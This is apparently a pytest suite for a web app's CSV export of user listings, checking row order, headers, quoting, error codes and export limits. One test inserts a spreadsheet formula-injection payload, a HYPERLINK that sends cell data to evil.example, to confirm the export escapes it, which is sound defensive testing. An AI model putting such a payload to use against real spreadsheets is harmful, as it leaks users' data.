"""CSV: the whole listing, in its order, whatever the page; nothing in it is taken for a formula."""

from __future__ import annotations

import csv
import io
from typing import Any

import pytest
from quart import Quart
from quart.typing import TestClientProtocol as Client

from rowcast.database import Database
from rowcast.routes.table import csv_export
from rowcast.tables.read_in_batches import ROWS
from tests.conftest import Outside, make_user
from tests.live.pages import NAMES
from tests.routes.asking import JSON, PAGE, PART, Got, ask

CSV = {"Accept": "text/csv"}
FIELDS = ["id", "version", "created", "changed", "username", "email", "role", "status"]


def rows(got: Got) -> list[dict[str, str]]:
    """Return the rows of a file, as Python's own reader finds them."""
    assert got.status == 200
    return list(csv.DictReader(io.StringIO(got.text, newline=""), strict=True))


def fill(outside: Outside, count: int) -> None:
    """Add so many users, every third an administrator."""
    insert = "INSERT INTO users (username, email, role) VALUES (?, ?, ?)"
    people = (
        (f"User {n:04}", f"u{n % 7}.{n}@example.org", "member" if n % 3 else "administrator") for n in range(count)
    )
    outside.execute_many(*((insert, user) for user in people))


@pytest.mark.parametrize("query", ["", "sort=-email", "role=member&sort=email", "q=user+000", "q=r&role=administrator"])
async def test_all_rows_of_a_listing_come_in_its_order(client: Client, outside: Outside, query: str) -> None:
    fill(outside, 2 * ROWS + 70)
    pages: list[Any] = []
    while (page := (await ask(client, "GET", f"/users?{query}&size=100&page={len(pages) // 100 + 1}", JSON)).json)[
        "rows"
    ]:
        pages += page["rows"]
        if page["page"] == page["pages"]:
            break
    for path, reader in ((f"/users?{query}&page=2&size=25", CSV), (f"/users.csv?{query}", PAGE)):
        found = rows(await ask(client, "GET", path, reader))
        assert found == [{name: str(value) for name, value in row.items()} for row in pages]
    assert len(found) == page["total"] > 0


async def test_the_head_of_a_file_says_what_it_is(client: Client) -> None:
    for method in ("GET", "HEAD"):
        got = await ask(client, method, "/users.csv", PART)
        assert got.headers["Content-Type"] == "text/csv; charset=utf-8; header=present"
        assert got.headers["Content-Disposition"] == 'attachment; filename="users.csv"'
        assert "Accept" in got.headers["Vary"]
        assert (got.text == "") == (method == "HEAD")
    got = await ask(client, "GET", "/users.csv", PAGE)
    assert got.text == ",".join(f'"{name}"' for name in FIELDS) + "\r\n", (
        "without rows there are the names of the fields"
    )


@pytest.mark.parametrize(
    "sign", ["=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20"], ids=ascii
)
async def test_no_cell_is_a_formula(client: Client, outside: Outside, sign: str) -> None:
    name = f'{sign}HYPERLINK("http://evil.example?"&A1,"a")'
    outside.execute("INSERT INTO users (username, email) VALUES (?, ?)", name, f"{sign}a;=1+1")
    got = await ask(client, "GET", "/users.csv", PAGE)
    (row,) = rows(got)
    assert (row["username"], row["email"]) == (f"'{name}", f"'{sign}a;=1+1")
    assert f'"\'{sign}a;=1+1"' in got.text, "a program that splits at semicolons finds quotation marks"


async def test_what_is_no_formula_comes_as_it_is(client: Client, database: Database) -> None:
    names = [name.replace("\r", " ") for name in NAMES]
    for number, name in enumerate((*names, 'a "quoted", name')):
        await make_user(database, name, email=f"x{number}@example.org")
    found = rows(await ask(client, "GET", "/users.csv?sort=email", PAGE))
    assert [row["username"] for row in found] == [*names, 'a "quoted", name']


@pytest.mark.parametrize("query", ["sort=nonsense", "page=0", "nonsense=1"])
async def test_a_listing_that_there_is_not_is_a_problem(client: Client, query: str) -> None:
    for path, reader in (("/users.csv", PAGE), ("/users", CSV)):
        got = await ask(client, "GET", f"{path}?{query}", reader)
        assert (got.status, set(got.json["errors"])) == (400, {query.partition("=")[0]})


async def test_what_has_no_rows_to_export_is_not_acceptable(client: Client, database: Database) -> None:
    await make_user(database)
    for path in ("/users/1", "/users/new", "/users/table"):
        assert (await ask(client, "GET", path, CSV)).json["status"] == 406
    assert (await ask(client, "GET", "/users/1.csv", PAGE)).json["status"] == 404
    assert (await ask(client, "POST", "/users", CSV, form={})).json["status"] == 422


async def test_one_too_many_is_refused_for_a_while(client: Client, monkeypatch: pytest.MonkeyPatch) -> None:
    for _ in range(csv_export.AT_ONCE + 1):
        assert rows(await ask(client, "GET", "/users.csv", PAGE)) == [], "those that have ended do not count"
    monkeypatch.setattr(csv_export, "AT_ONCE", 0)
    got = await ask(client, "GET", "/users.csv", PAGE)
    assert (got.status, got.json["title"]) == (503, "Too many exports are under way.")
    assert int(got.headers["Retry-After"]) > 0


async def test_a_database_that_fails_is_an_error_and_no_half_of_a_file(app: Quart, outside: Outside) -> None:
    outside.execute("ALTER TABLE users RENAME TO lost")
    for _ in range(csv_export.AT_ONCE + 1):
        got = await ask(app.test_client(), "GET", "/users.csv", PAGE)
        assert (got.status, got.json["status"]) == (503, 503)
